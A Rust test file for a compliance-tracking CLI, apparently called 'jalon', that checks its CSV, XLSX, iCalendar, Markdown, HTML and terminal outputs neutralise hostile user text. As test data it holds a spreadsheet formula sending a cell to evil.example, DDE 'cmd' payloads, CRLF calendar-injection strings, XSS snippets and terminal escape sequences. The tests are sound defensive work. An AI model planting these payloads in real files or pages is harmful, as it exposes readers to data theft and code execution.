//! Outputs that cannot be turned against their readers: user text that holds formulas, line
//! breaks, HTML, Markdown or terminal escapes reaches the CSV form, the iCalendar file, the
//! Markdown reports and the terminal as text, and as nothing else.

use calamine::{Data, Reader, Xlsx, open_workbook};
use icalendar::Component;
use pulldown_cmark::{Event, Parser, Tag};

use crate::util::{Scratch, json};

/// Every Markdown and HTML payload at once: had one of them opened structure, the text after it
/// would not read as written.
const PAYLOAD: &str = "<script>alert(1)</script> <img src=x onerror=alert(1)> [x](javascript:alert(1)) <!-- **bold** | a | b |";

/// The text a field holds: its name, then the payload.
fn tagged(field: &str) -> String {
    format!("{field}: {PAYLOAD}")
}

/// Runs and expects success, with arguments built at run time.
fn ok(s: &Scratch, args: &[String]) -> String {
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    s.ok(&args)
}

/// `jalon -C ws ARGS`.
fn ws(args: &[&str]) -> Vec<String> {
    ["-C", "ws"]
        .iter()
        .chain(args)
        .map(|a| (*a).to_owned())
        .collect()
}

/// A fresh workspace `ws` for `provider` and `service` (IaaS).
fn init(s: &Scratch, provider: &str, service: &str) {
    ok(
        s,
        &[
            "init",
            "ws",
            "--provider",
            provider,
            "--service",
            service,
            "--kind",
            "iaas",
        ]
        .map(str::to_owned),
    );
}

/// Adds a minor finding on `requirement` and plans its corrective action; returns its id.
fn finding(s: &Scratch, requirement: &str, title: &str, action: &str, owner: &str) -> String {
    let id = ok(
        s,
        &ws(&[
            "finding",
            "add",
            "--requirement",
            requirement,
            "--severity",
            "minor",
            // `--title=…`: a value may start with `-`.
            &format!("--title={title}"),
        ]),
    )
    .trim()
    .to_owned();
    ok(
        s,
        &ws(&[
            "finding",
            "plan",
            &id,
            &format!("--action={action}"),
            &format!("--owner={owner}"),
            "--due",
            "2027-01-15",
        ]),
    );
    id
}

/// Found by testing: an owner `=HYPERLINK(…)` was a live formula in LibreOffice and Excel. Every
/// CSV cell that starts with `=`, `+`, `-` or `@` now starts with `'`; the XLSX holds strings.
#[test]
fn csv_cell_starting_with_equals_is_not_a_formula() {
    let s = Scratch::new();
    s.workspace();
    let owners = [
        ("5.1.a", "=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")"),
        ("5.1.b", "+1+cmd|' /C calc'!A0"),
        ("5.2.a", "-2+3"),
        ("5.2.d", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ];
    for (requirement, owner) in owners {
        finding(&s, requirement, "Titre", "=1+1 action", owner);
    }
    let export = |format: &str, file: &str| {
        s.ok(&["-C", "ws", "export", "form", "--format", format, "-o", file]);
    };
    export("csv", "form.csv");
    export("xlsx", "form.xlsx");
    let mut csv = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(s.join("form.csv"))
        .unwrap();
    let rows: Vec<Vec<String>> = csv
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    for (requirement, owner) in owners {
        let row = rows.iter().find(|r| r[1] == requirement).unwrap();
        assert_eq!(row[14], format!("'{owner}"), "{requirement}");
    }
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet reads as a formula: {cell:?}"
            );
        }
    }
    // The XLSX writes every cell as a string: no formula, the owner as typed.
    let mut book: Xlsx<_> = open_workbook(s.join("form.xlsx")).unwrap();
    let sheet = book.sheet_names()[0].clone();
    let formulas = book.worksheet_formula(&sheet).unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "a formula in the XLSX"
    );
    let range = book.worksheet_range(&sheet).unwrap();
    for (requirement, owner) in owners {
        let row = range
            .rows()
            .find(|r| r[1] == Data::String(requirement.to_owned()))
            .unwrap();
        assert_eq!(row[14], Data::String(owner.to_owned()), "{requirement}");
    }
}

/// The text an iCalendar file holds once unfolded (RFC 5545 §3.1), one content line each.
fn content_lines(ics: &str) -> Vec<String> {
    ics.replace("\r\n ", "")
        .split("\r\n")
        .filter(|l| !l.is_empty())
        .map(str::to_owned)
        .collect()
}

/// Found by testing: a CR/LF in the provider's name wrote raw content lines into the `.ics`
/// (`BEGIN:VEVENT`, `SUMMARY:…`: an event of the attacker's). The names are now one line, and
/// every TEXT value is escaped (RFC 5545 §3.3.11).
#[test]
fn ics_provider_name_with_line_breaks_injects_no_event() {
    let s = Scratch::new();
    s.workspace();
    // As a hand-edited jalon.ron may hold them (RON escapes: `\r`, `\n`, `\\`).
    let path = s.join("ws/jalon.ron");
    let manifest = std::fs::read_to_string(&path)
        .unwrap()
        .replace(
            "provider: \"Example Cloud\"",
            r#"provider: "Evil\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:pwned\nDTSTART:20270101""#,
        )
        .replace(
            "service: \"Example Compute\"",
            r#"service: "Compute; a,b\\c""#,
        );
    assert!(
        manifest.contains("pwned") && manifest.contains("a,b"),
        "{manifest}"
    );
    std::fs::write(&path, manifest).unwrap();
    s.qualify("2023-12-14");
    s.ok(&["-C", "ws", "calendar", "--ics", "deadlines.ics"]);
    let ics = std::fs::read_to_string(s.join("deadlines.ics")).unwrap();
    // What the names read as: each line break a space, the rest as typed.
    let subject =
        "Evil  END:VEVENT  BEGIN:VEVENT  SUMMARY:pwned DTSTART:20270101 — Compute; a,b\\c";

    // A real parser sees exactly the four deadlines, the names intact as text.
    let cal: icalendar::Calendar = ics.parse().unwrap();
    let summaries: Vec<&str> = cal.events().filter_map(|e| e.get_summary()).collect();
    assert_eq!(
        summaries,
        [
            format!("Surveillance audit due — {subject}"),
            format!("Surveillance audit due — {subject}"),
            format!("Renewal should start — {subject}"),
            format!("Qualification expires — {subject}"),
        ],
        "{ics}"
    );
    assert_eq!(
        cal.property_value("X-WR-CALNAME"),
        Some(format!("jalon — {subject}").as_str())
    );
    for e in cal.events() {
        assert!(e.get_start().is_some() && e.get_end().is_some());
    }

    // And the file itself: no content line of the attacker's, every value escaped.
    let lines = content_lines(&ics);
    assert_eq!(
        lines.iter().filter(|l| *l == "BEGIN:VEVENT").count(),
        4,
        "{ics}"
    );
    assert_eq!(
        lines.iter().filter(|l| *l == "END:VEVENT").count(),
        4,
        "{ics}"
    );
    assert!(
        !lines
            .iter()
            .any(|l| l.starts_with("SUMMARY:pwned") || l.starts_with("DTSTART:2027")),
        "{ics}"
    );
    assert!(
        !ics.replace("\r\n", "").contains(['\r', '\n']),
        "a raw CR or LF"
    );
    let escaped =
        "Evil  END:VEVENT  BEGIN:VEVENT  SUMMARY:pwned DTSTART:20270101 — Compute\\; a\\,b\\\\c";
    assert!(lines.contains(&format!("NAME:jalon — {escaped}")), "{ics}");
    assert!(
        lines.contains(&format!("X-WR-CALNAME:jalon — {escaped}")),
        "{ics}"
    );
    assert!(ics.split("\r\n").all(|l| l.len() <= 75), "{ics}");
}

/// What a CommonMark renderer (GitHub's extensions on) makes of a Markdown report: the HTML, the
/// text it shows, and the structure that is not the templates' own.
fn rendered(markdown: &str) -> (String, String, Vec<String>) {
    let options = pulldown_cmark::Options::ENABLE_TABLES
        | pulldown_cmark::Options::ENABLE_STRIKETHROUGH
        | pulldown_cmark::Options::ENABLE_FOOTNOTES
        | pulldown_cmark::Options::ENABLE_TASKLISTS
        | pulldown_cmark::Options::ENABLE_MATH
        | pulldown_cmark::Options::ENABLE_GFM;
    let events: Vec<Event<'_>> = Parser::new_ext(markdown, options).collect();
    let mut text = String::new();
    let mut foreign = Vec::new();
    for e in &events {
        match e {
            Event::Text(t) => text.push_str(t),
            Event::Html(h) | Event::InlineHtml(h) => foreign.push(format!("HTML {h:?}")),
            Event::Start(Tag::Link { dest_url, .. }) => foreign.push(format!("link {dest_url}")),
            Event::Start(Tag::Image { dest_url, .. }) => foreign.push(format!("image {dest_url}")),
            _ => {}
        }
    }
    let mut html = String::new();
    pulldown_cmark::html::push_html(&mut html, events.into_iter());
    (html, text, foreign)
}

/// Found by testing: raw HTML (`<script>`, `<img onerror>`, `<!--`), `javascript:` links and
/// Markdown in user text passed through the Markdown reports. Every user text the summary and
/// the plan show is now escaped: rendered, it is text.
#[test]
fn markdown_report_user_html_and_links_render_as_text() {
    let s = Scratch::new();
    init(&s, &tagged("provider"), &tagged("service"));
    ok(&s, &ws(&["service", "centre", &tagged("centre")]));
    let id = finding(
        &s,
        "5.1.a",
        &tagged("finding title"),
        &tagged("corrective action"),
        &tagged("owner"),
    );
    ok(
        &s,
        &ws(&[
            "finding",
            "add",
            "--requirement",
            "5.2.a",
            "--severity",
            "major",
            "--title",
            &tagged("major title"),
            "--description",
            &tagged("description"),
        ]),
    );
    std::fs::write(s.join("p.txt"), "x\n").unwrap();
    ok(
        &s,
        &ws(&[
            "evidence",
            "add",
            "p.txt",
            "--title",
            &tagged("evidence title"),
            "--kind",
            &tagged("evidence kind"),
        ]),
    );
    ok(
        &s,
        &ws(&["finding", "remediate", &id, "--evidence", "E-0001"]),
    );
    ok(
        &s,
        &ws(&[
            "plan",
            "generate",
            "--start",
            "2021-07-01",
            "--evaluator",
            &tagged("evaluator"),
        ]),
    );
    ok(&s, &ws(&["plan", "submit", "--note", &tagged("plan note")]));
    for (event, date) in [
        ("request-submitted", "2021-01-04"),
        ("j0-accepted", "2021-03-01"),
    ] {
        s.record(event, date);
    }
    ok(
        &s,
        &ws(&["team", "add", "officer@example.org", "--role", "provider"]),
    );
    ok(
        &s,
        &ws(&["team", "add", &tagged("team member"), "--role", "evaluator"]),
    );
    for (which, fields) in [
        (
            "summary",
            &[
                "provider",
                "service",
                "centre",
                "finding title",
                "major title",
                "description",
                "corrective action",
                "owner",
                "evidence title",
                "evidence kind",
            ][..],
        ),
        (
            "plan",
            &[
                "provider",
                "service",
                "centre",
                "team member",
                "evaluator",
                "plan note",
            ][..],
        ),
    ] {
        let md = ok(
            &s,
            &ws(&[
                "report",
                which,
                "--to",
                "md",
                "--marking",
                &tagged("marking"),
            ]),
        );
        let (html, text, foreign) = rendered(&md);
        assert!(foreign.is_empty(), "{which}: {foreign:?}");
        for element in ["<script", "<img", "<a ", "href=", "<!--"] {
            assert!(!html.contains(element), "{which}: `{element}` in\n{html}");
        }
        for field in fields.iter().chain(&["marking"]) {
            assert!(
                text.contains(&tagged(field)),
                "{which}: the {field} does not read as written in\n{text}"
            );
        }
        // The HTML report escapes the same text (askama).
        let html = ok(&s, &ws(&["report", which, "--to", "html"]));
        assert!(!html.contains("<script>alert") && !html.contains("<img src=x"));
        assert!(html.contains("provider: &#60;script&#62;alert(1)&#60;/script&#62;"));
    }
}

/// Found by testing: the reserves of a qualification went into the summary report as written.
#[test]
fn markdown_report_reserves_render_as_text() {
    let s = Scratch::new();
    s.workspace();
    for (event, date) in [
        ("request-submitted", "2021-01-04"),
        ("j0-accepted", "2021-03-01"),
        ("j1-accepted", "2021-06-01"),
        ("documentary-audit-done", "2021-09-01"),
        ("onsite-audit-done", "2021-10-01"),
        ("evaluation-report-delivered", "2021-11-15"),
    ] {
        s.record(event, date);
    }
    let j2 = [
        "journey",
        "record",
        "j2-accepted",
        "--date",
        "2021-12-01",
        "--force",
        "--note",
        "grid",
    ];
    ok(&s, &ws(&j2));
    let qualified = [
        "journey",
        "record",
        "qualified",
        "--date",
        "2026-10-01",
        "--reserves",
    ];
    ok(
        &s,
        &ws(&[&qualified[..], &[tagged("reserves").as_str()]].concat()),
    );
    let md = s.ok(&["-C", "ws", "report", "summary", "--to", "md"]);
    let (html, text, foreign) = rendered(&md);
    assert!(foreign.is_empty(), "{foreign:?}");
    assert!(
        !html.contains("<script") && !html.contains("<img"),
        "{html}"
    );
    assert!(text.contains(&tagged("reserves")), "{text}");
}

/// A `jalon.ron` edited by hand with terminal escapes in its texts: OSC (window title), CSI
/// (clear screen), BEL, C1 CSI, and bidirectional overrides and isolates.
fn hostile_manifest(s: &Scratch) {
    s.workspace();
    let path = s.join("ws/jalon.ron");
    let text = std::fs::read_to_string(&path).unwrap().replace(
        "provider: \"Example Cloud\"",
        "provider: \"Example \u{1b}]0;owned\u{7}Cloud \u{1b}[2J\u{1b}[H \u{9b}31m \u{202e}lanigiro\u{202c} \u{2066}x\u{2069}\u{200f}\"",
    );
    assert!(text.contains("owned"), "{text}");
    std::fs::write(&path, text).unwrap();
}

/// A character a terminal obeys rather than shows.
fn raw_control(text: &str) -> Option<char> {
    text.chars().find(|&c| {
        (c.is_control() && !matches!(c, '\n' | '\t'))
            || matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    })
}

/// Found by testing: human output printed the control sequences of user text raw (clear the
/// screen, set the window title, reorder a line). They are shown as escapes now.
#[test]
fn terminal_output_shows_control_characters_as_escapes() {
    let s = Scratch::new();
    hostile_manifest(&s);
    let out = s.ok(&["-C", "ws", "status"]);
    assert_eq!(raw_control(&out), None, "{out:?}");
    assert!(
        out.contains("Example \\u{1b}]0;owned\\u{7}Cloud \\u{1b}[2J\\u{1b}[H \\u{9b}31m \\u{202e}lanigiro\\u{202c} \\u{2066}x\\u{2069}\\u{200f}"),
        "{out}"
    );
    // Errors quote what was typed: on standard error too.
    let (code, _, err) = s.run(&["-C", "ws", "finding", "show", "F-\u{1b}[2J\u{9b}0m\u{202e}"]);
    assert_eq!(code, 2);
    assert_eq!(raw_control(&err), None, "{err:?}");
    assert!(
        err.contains("there is no finding `F-\\u{1b}[2J\\u{9b}0m\\u{202e}`"),
        "{err}"
    );
}

/// JSON output keeps the value and shows no control character raw: serde_json escapes C0, and
/// DEL, C1 and the bidirectional controls (which it leaves as they are) are escaped as `\uXXXX`.
#[test]
fn json_output_escapes_bidi_and_c1_characters() {
    let s = Scratch::new();
    hostile_manifest(&s);
    let out = s.ok(&["-C", "ws", "status", "--format", "json"]);
    assert_eq!(raw_control(&out), None, "{out:?}");
    assert!(out.contains(r"\u202e") && out.contains(r"\u009b") && out.contains(r"\u001b"));
    assert_eq!(
        json(&out)["provider"],
        "Example \u{1b}]0;owned\u{7}Cloud \u{1b}[2J\u{1b}[H \u{9b}31m \u{202e}lanigiro\u{202c} \u{2066}x\u{2069}\u{200f}",
        "the same value"
    );
}
